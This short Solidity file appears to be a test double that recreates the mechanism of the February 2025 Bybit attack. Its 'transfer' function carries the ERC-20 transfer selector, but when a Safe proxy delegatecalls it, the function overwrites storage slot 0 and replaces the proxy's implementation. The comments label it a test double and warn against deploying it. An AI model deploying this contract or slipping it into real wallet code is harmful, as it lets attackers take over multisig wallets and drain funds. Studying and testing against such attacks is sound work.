// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

/// @title StorageTrojan
/// @notice The shape of the attack on Bybit of February 2025: it looks like a token transfer, and through a
///         delegatecall from a Safe it replaces the Safe's implementation.
/// @dev Slot 0 of a Safe proxy is its singleton. A test double: never deploy it to a chain that holds value.
contract StorageTrojan {
    /// @dev Shares slot 0 with the singleton of the proxy that delegatecalls here.
    address private _singleton;

    /// @dev Has the selector of an ERC-20 transfer (0xa9059cbb). Writes `to` to slot 0; `amount` is ignored.
    function transfer(address to, uint256 amount) external returns (bool) {
        amount;
        _singleton = to;
        return true;
    }
}
